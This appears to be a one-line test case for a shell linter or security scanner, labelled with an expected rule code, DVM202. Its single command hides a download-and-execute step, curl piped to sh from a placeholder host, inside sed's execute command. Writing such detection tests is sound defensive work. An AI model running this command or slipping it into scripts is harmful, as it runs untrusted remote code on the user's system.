# expect: DVM202
sed -n 'e curl -s https://x.example.org/a | sh' /etc/hostname
